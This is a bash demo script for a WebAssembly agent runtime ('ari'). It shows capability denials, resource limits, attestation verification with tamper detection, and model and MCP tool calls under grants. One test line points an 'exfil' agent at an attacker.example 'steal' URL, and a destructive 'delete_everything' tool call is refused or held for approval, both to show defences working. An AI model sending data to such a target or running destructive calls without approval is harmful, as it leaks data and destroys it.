#!/usr/bin/env bash
# The main job, locally and without a cluster: build the runtime and the example agents, then
# run them through `ari run` under their limits, show a failure of each class, and verify a
# signed report by replaying it.
set -euo pipefail
repo="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
cd "$repo"

scripts/setup.sh
scripts/build-agents.sh >/dev/null
# The dev profile optimises the Wasm compiler crates and shares its build with the tests.
echo "demo: building the ari binary (the first run compiles Wasmtime: several minutes on 2 cores)" >&2
cargo build --locked -q -p ari-executor --bin ari
ari="$repo/target/debug/ari"
agents="$repo/target/agents"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT

show() { printf '\n$ ari %s\n' "$*"; "$ari" "$@" || printf '(exit code %s)\n' "$?"; }
# The public key a report's attestation names (the signed predicate, in the envelope's payload).
pubkey_of() {
  python3 -c 'import base64, json, sys
envelope = json.load(open(sys.argv[1]))["attestation"]
print(json.loads(base64.b64decode(envelope["payload"]))["predicate"]["publicKey"])' "$1"
}

echo "== agents doing their job"
show run "$agents/echo.wasm" --input "hello from ari"
show run "$agents/wordcount.wasm" --input "the quick brown fox jumps over the lazy dog"
show run "$agents/counter.wasm" --grant storage=1KiB --state "$work/state" --input visits
show run "$agents/counter.wasm" --grant storage=1KiB --state "$work/state" --input visits
show run "$agents/dice.wasm" --grant randomness --seed "$(printf '%064d' 7)" --input 5
show run "$agents/clock.wasm" --grant timeAccess --input host
show run "$agents/sha256-loop.wasm" --input "1000 abc"

echo
echo "== capabilities are denied by default, limits are enforced"
show run "$agents/counter.wasm" --input visits
show run "$agents/dice.wasm" --input 3
show run "$agents/spin.wasm" --fuel 50000000
show run "$agents/spin.wasm" --fuel 100000000000 --timeout 1
show run "$agents/balloon.wasm" --memory 16777216
show run "$agents/deep.wasm"
show run "$agents/trap.wasm"
show run "$agents/flood.wasm" --input 8
show run "$agents/exfil.wasm" --input "https://attacker.example/steal"
show run "$agents/hoarder.wasm" --grant storage=4KiB --input 512

echo
echo "== a signed, replayable report"
"$ari" run "$agents/dice.wasm" --grant randomness --input 3 --json >"$work/report.json"
head -c 600 "$work/report.json"; echo " ..."
# `ari verify` trusts only a key it is given: in a cluster the Agent's
# status.attestationPublicKey; here the key `ari run` generated, as its report states it.
pub="$(pubkey_of "$work/report.json")"
show verify "$work/report.json" --module "$agents/dice.wasm" --public-key "$pub"
# Claim less fuel in the signed statement: the signature no longer matches.
python3 - "$work/report.json" "$work/tampered.json" <<'PY'
import base64, json, sys
report = json.load(open(sys.argv[1]))
statement = json.loads(base64.b64decode(report["attestation"]["payload"]))
statement["predicate"]["resourcesUsed"]["fuel"] = 1
report["attestation"]["payload"] = base64.b64encode(json.dumps(statement).encode()).decode()
json.dump(report, open(sys.argv[2], "w"))
PY
show verify "$work/tampered.json" --module "$agents/dice.wasm" --public-key "$pub"

echo
echo "== the same attestation, checked by tools no one here wrote"
# A DSSE envelope holding an in-toto Statement: securesystemslib verifies it with the key, and
# in-toto-attestation validates the Statement (both from PyPI, installed once under ~/.cache).
intoto_python="$(scripts/intoto.sh | tail -n 1)"
for report in report tampered; do
  python3 -c 'import json, sys; json.dump(json.load(open(sys.argv[1]))["attestation"], open(sys.argv[2], "w"))' \
    "$work/$report.json" "$work/$report.envelope.json"
  printf '\n$ python e2e/intoto/check.py %s.envelope.json %s\n' "$report" "$pub"
  "$intoto_python" e2e/intoto/check.py "$work/$report.envelope.json" "$pub" || printf '(exit code %s)\n' "$?"
done

echo
echo "== an agent that thinks: a model behind the host, a key the agent never sees"
# llama.cpp's OpenAI-compatible server with a tiny generated model (its words are random: what
# matters is the path). The first run builds it from PyPI (about 25 minutes on 2 cores).
echo "demo: installing llama.cpp's server (cached after the first run)" >&2
ms_log="$work/model-server-install.log"
scripts/model-server.sh >"$ms_log" 2>&1 &
ms_pid=$!
ticks=0
while kill -0 "$ms_pid" 2>/dev/null; do
  sleep 5
  ticks=$((ticks + 1))
  if [ $((ticks % 12)) -eq 0 ]; then
    echo "demo: still installing llama.cpp's server ($(date -u +%H:%M:%S)): $(tail -n 1 "$ms_log" | cut -c1-120)" >&2
  fi
done
wait "$ms_pid" || { cat "$ms_log" >&2; echo "demo: the model server install failed" >&2; exit 1; }
ms="$(tail -n 1 "$ms_log")"
port="$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')"
"$ms/bin/python" -m llama_cpp.server --model "$ms/models/tiny.gguf" --model_alias tiny \
  --host 127.0.0.1 --port "$port" --n_ctx 2048 --n_threads 1 >"$work/model-server.log" 2>&1 &
server=$!
trap 'kill "$server" 2>/dev/null || true; rm -rf "$work"' EXIT
for _ in $(seq 1 120); do
  curl -fsS "http://127.0.0.1:$port/v1/models" >/dev/null 2>&1 && break
  sleep 0.5
done
echo "demo-key-that-stays-with-the-host" >"$work/model.key"
models=(--model "tiny=http://127.0.0.1:$port/v1" --model-key-file "tiny=$work/model.key")
show run "$agents/ask.wasm" --input "What is WebAssembly?" --grant models=tiny "${models[@]}"
# Denied by default: the model is declared but not granted.
show run "$agents/ask.wasm" --input "What is WebAssembly?" --config tiny "${models[@]}"
# A budget too small for the prompt: refused before anything is sent.
show run "$agents/ask.wasm" --input "What is WebAssembly?" --grant models=tiny --tokens 50 "${models[@]}"
"$ari" run "$agents/ask.wasm" --input "What is WebAssembly?" --grant models=tiny --tokens 2000 \
  "${models[@]}" --json >"$work/model-run.json"
python3 - "$work/model-run.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
print("usage:", json.dumps(r["models"]))
print("budget:", r["limitsApplied"]["tokens"], "tokens; model calls recorded:",
      sum(1 for e in r["trace"]["events"] if e["kind"] == "modelCall"))
print("the key appears in the report:", "demo-key-that-stays-with-the-host" in open(sys.argv[1]).read())
PY
# The ModelConfig a cluster is given works locally too: defaults, a rate limit and prices,
# so the usage carries an estimated cost (the key still comes from a file).
cat >"$work/tiny-model.yaml" <<EOF
apiVersion: ari.dev/v1alpha1
kind: ModelConfig
metadata:
  name: tiny
spec:
  provider: OpenAI
  endpoint: http://127.0.0.1:$port/v1
  model: tiny
  defaults: {temperature: 0.2, maxTokens: 32}
  limits: {requestsPerMinute: 60}
  prices: {currency: EUR, inputPerMillion: "0.15", outputPerMillion: "0.60"}
EOF
"$ari" run "$agents/ask.wasm" --input "What is WebAssembly?" --grant models=tiny --tokens 2000 \
  --model-config "$work/tiny-model.yaml" --model-key-file "tiny=$work/model.key" --json >"$work/priced-run.json"
python3 - "$work/priced-run.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
print("usage with prices:", json.dumps(r["models"]))
PY
# Tokens down a delegation tree: relay (a test fixture that passes its input on) has 1,000
# tokens and no model; its child, ask, is given half and the parent gets back what it left.
"$ari" run "$agents/relay.wasm" --input "pass:What is WebAssembly?" --config ask --grant delegation=ask \
  --agent "ask=$agents/ask.wasm" --agent-grant ask:models=tiny --tokens 1000 "${models[@]}" \
  --json >"$work/tree-run.json"
python3 - "$work/tree-run.json" <<'PY'
import json, sys
r = json.load(open(sys.argv[1]))
child = r["children"][0]
print("parent budget:", r["limitsApplied"]["tokens"], "| child given:", child["limitsApplied"]["tokens"],
      "| child spent:", child["resourcesUsed"].get("inputTokens", 0) + child["resourcesUsed"].get("outputTokens", 0),
      "| charged to the parent:", r["resourcesUsed"].get("childrenTokens", 0))
PY
# A declared agent: a prompt, the model and another Agent as its tool, run by the stock
# component (stock/declarative); the declaration is the config its attestation signs.
cat >"$work/declared.yaml" <<'YAML'
apiVersion: ari.dev/v1alpha1
kind: Agent
metadata: {name: counter}
spec:
  declarative:
    instructions: You count words with the wordcount tool, then say how many there are.
    model: tiny
    tools:
      - agent: {name: wordcount, description: counts the words of a text}
    maxTurns: 3
    maxTokensPerTurn: 32
YAML
"$ari" run "$agents/declarative.wasm" --declaration "$work/declared.yaml" --input "How many words in: a b c?" \
  --grant models=tiny --grant delegation=wordcount --agent "wordcount=$agents/wordcount.wasm" \
  --tokens 4000 "${models[@]}" --json >"$work/declared-run.json"
python3 - "$work/declared-run.json" <<'PY'
import base64, json, sys
r = json.load(open(sys.argv[1]))
p = json.loads(base64.b64decode(r["attestation"]["payload"]))["predicate"]
print("declared agent: model calls", r["resourcesUsed"].get("modelCalls", 0),
      "| module (the stock component)", p["moduleSha256"][:16], "| config (the declaration)", p["configSha256"][:16])
PY
# Naming what is not granted is refused before anything runs.
show run "$agents/declarative.wasm" --declaration "$work/declared.yaml" --input "x" --grant models=tiny "${models[@]}"
# The replay needs no model: stop the server first.
kill "$server"; wait "$server" 2>/dev/null || true
show verify "$work/declared-run.json" --module "$agents/declarative.wasm" --declaration "$work/declared.yaml" \
  --agent "wordcount=$agents/wordcount.wasm" --accept-embedded-key
pub="$(pubkey_of "$work/model-run.json")"
show verify "$work/model-run.json" --module "$agents/ask.wasm" --public-key "$pub"

echo
echo "== an agent that uses tools: an MCP server built with the official Python SDK"
# testkit/mcp/server.py (echo, add, slow, big, delete_everything, auth_echo); the token is the
# host's: the agent names a server and a tool, never a URL or a credential.
mcp_py="$(scripts/mcp-server.sh | tail -n 1)"
ARI_MCP_TOKEN=demo-token-that-stays-with-the-host "$mcp_py" testkit/mcp/server.py >"$work/mcp.log" 2>&1 &
mcp=$!
trap 'kill "$mcp" 2>/dev/null || true; rm -rf "$work"' EXIT
for _ in $(seq 1 100); do
  grep -q '^listening ' "$work/mcp.log" 2>/dev/null && break
  sleep 0.2
done
mcp_port="$(sed -n 's/^listening //p' "$work/mcp.log" | head -n 1)"
export DEMO_MCP_TOKEN=demo-token-that-stays-with-the-host
tools=(--mcp "demo=http://127.0.0.1:$mcp_port/mcp" --mcp-token-env demo=DEMO_MCP_TOKEN)
show run "$agents/toolbox.wasm" --input $'list demo\ncall demo echo {"text":"hello from a tool"}\ncall demo add {"a":2,"b":40}' \
  --grant tools=demo:echo,add "${tools[@]}"
# Deny by default: a destructive tool the grant does not name is refused before anything is sent.
show run "$agents/toolbox.wasm" --input $'call demo delete_everything {"confirm":true}' \
  --grant tools=demo:echo "${tools[@]}"
# Granted, a tool the server marks destructive waits for a person: rejected unless someone
# approves (in a cluster: kubectl ari approve task/NAME; here --approve-calls).
show run "$agents/toolbox.wasm" --input $'call demo delete_everything {"confirm":true}' \
  --grant 'tools=demo:*' "${tools[@]}"
show run "$agents/toolbox.wasm" --input $'call demo delete_everything {"confirm":true}' \
  --grant 'tools=demo:*' --approve-calls "${tools[@]}"
"$ari" run "$agents/toolbox.wasm" --input $'call demo echo {"text":"recorded"}' --grant tools=demo:echo \
  "${tools[@]}" --json >"$work/tools-run.json"
kill "$mcp"; wait "$mcp" 2>/dev/null || true
# The replay needs no server.
show verify "$work/tools-run.json" --module "$agents/toolbox.wasm" --accept-embedded-key

echo
echo "== a conversation: a turn that asks, a reply that continues it"
# intake asks its questions one turn at a time; each turn is its own run (a Task in a cluster,
# spec.continues), the reply reads the earlier turns from the host and signs the one before it.
"$ari" run "$agents/intake.wasm" --id laptop --input "a new laptop" --json >"$work/turn1.json"
python3 -c 'import json, sys; print(json.load(open(sys.argv[1]))["output"])' "$work/turn1.json"
"$ari" run "$agents/intake.wasm" --id laptop-2 --input Ada --continues "$work/turn1.json" --json >"$work/turn2.json"
python3 -c 'import json, sys; print(json.load(open(sys.argv[1]))["output"])' "$work/turn2.json"
show run "$agents/intake.wasm" --id laptop-3 --input Friday \
  --continues "$work/turn1.json" --continues "$work/turn2.json"
# A reply replays from its own trace: the history it read is recorded there.
show verify "$work/turn2.json" --module "$agents/intake.wasm" --accept-embedded-key

echo
echo "== what a component imports and exports"
show inspect "$agents/fetch.wasm"
